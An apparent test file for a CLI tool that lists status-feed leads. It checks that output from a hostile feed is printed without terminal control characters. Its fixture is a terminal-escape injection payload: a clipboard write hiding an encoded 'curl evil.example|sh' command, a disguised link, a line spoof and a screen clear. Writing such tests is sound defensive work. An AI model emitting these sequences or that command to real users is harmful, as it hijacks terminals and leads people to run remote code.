import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { copyFile, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import test from 'ava';
import { openStore } from '../../server/store/index.js';
import { ROOT, SHIPPED_CONTENT } from '../helpers/fixtures.js';
import { commandLine, outputOf, runToEnd } from '../helpers/run.js';
import { startSourceStandIn } from '../helpers/source-stand-in.js';

/** A clipboard write (OSC 52), a disguised link (OSC 8), a line rewritten by a CR, a screen cleared. */
const HOSTILE =
  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007Weekly limits reset\u001b]8;;https://evil.example\u001b\\here' +
  '\u001b]8;;\u001b\\\r[fake] all clear\u009b2J\u202e\u2028\u0007';
const CONTROLS = /(?!\n)[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

async function workspace(t: { teardown(fn: () => Promise<void>): void }) {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'reset-tracker-leads-terminal-'));
  t.teardown(() => rm(dir, { recursive: true, force: true }));
  const ledger = path.join(dir, 'ledger.json');
  await copyFile(path.join(ROOT, 'docs/record/ledger.json'), ledger);
  const env = {
    ALERTS_DB: path.join(dir, 'alerts.sqlite'),
    CONTENT_DIR: SHIPPED_CONTENT,
    LEADS_LEDGER: ledger,
    LEADS_SOURCES: path.join(dir, 'sources.json'),
    LEADS_CONTACT: 'curator@example.org',
    LOG_LEVEL: 'silent',
  };
  const run = (args: readonly string[]) =>
    runToEnd(process.execPath, [...commandLine('tools/leads.ts'), ...args], {
      cwd: ROOT,
      env: { ...process.env, ...env },
    });
  return { dir, env, run };
}

test('list, show and --json print what a hostile feed wrote without one control character', async (t) => {
  const { env, run } = await workspace(t);
  const store = await openStore(env.ALERTS_DB);
  try {
    await store.leads.recordLead({
      key: 'hostile',
      url: 'https://status.claude.com/incidents/x\u001b]8;;https://evil.example\u001b\\',
      postId: null,
      postedAt: null,
      title: HOSTILE,
      words: `${HOSTILE}\nsecond line`,
      matched: [`reset${HOSTILE}`],
      source: 'status',
    });
  } finally {
    await store.close();
  }
  for (const args of [[], ['show', '1'], ['--json'], ['show', '1', '--json']]) {
    const printed = await run(args);
    t.is(printed.code, 0, outputOf(printed));
    t.notRegex(printed.stdout, CONTROLS, `leads ${args.join(' ')}`);
    t.regex(printed.stdout, /Weekly limits reset/);
  }
  const shown = await run(['show', '1']);
  t.regex(shown.stdout, /\nsecond line\n?$/, "the words' own lines are kept");
  const json = JSON.parse((await run(['--json'])).stdout) as { title: string }[];
  t.is(json[0]!.title, HOSTILE, 'JSON escapes the controls: a script reads the value as stored');
});

test("watch --once prints a source's failure reason without the controls its answer held", async (t) => {
  const { env, run } = await workspace(t);
  const site = await startSourceStandIn();
  t.teardown(() => site.stop());
  // JSON.parse quotes the start of what it could not read: the reason carries the answer's bytes.
  site.set('/peer.json', { body: HOSTILE });
  await writeFile(
    env.LEADS_SOURCES,
    JSON.stringify({ sources: [{ name: 'peer', kind: 'peer_data', url: `${site.origin}/peer.json` }] }),
  );
  const watched = await run(['watch', '--once']);
  t.is(watched.code, 0, outputOf(watched));
  t.regex(watched.stdout, /^peer: failed, 0 new lead\(s\).*\(unreadable: not JSON/m);
  t.notRegex(watched.stdout, CONTROLS);
});

test('npm run leads | head: the reader leaving early ends the command quietly, exit 0', async (t) => {
  const { env } = await workspace(t);
  const store = await openStore(env.ALERTS_DB);
  try {
    for (let index = 0; index < 2_000; index += 1)
      await store.leads.recordLead({
        key: `https://status.claude.com/incidents/${index}`,
        url: `https://status.claude.com/incidents/${index}`,
        postId: null,
        postedAt: null,
        title: `Weekly limits reset, incident ${index}, ${'and a long title '.repeat(4)}`,
        words: '',
        matched: ['reset'],
        source: 'status',
      });
  } finally {
    await store.close();
  }
  // As `head -1` does: read the first line, then close the pipe while the command still writes. Run
  // through tsx, as `npm run leads` runs it.
  const child = spawn(process.execPath, ['--import', 'tsx', 'tools/leads.ts'], {
    cwd: ROOT,
    env: { ...process.env, ...env },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let stderr = '';
  child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
  child.stdout.once('data', () => child.stdout.destroy());
  const [code] = (await once(child, 'close')) as [number | null];
  t.is(code, 0, stderr);
  t.is(stderr, '');
});
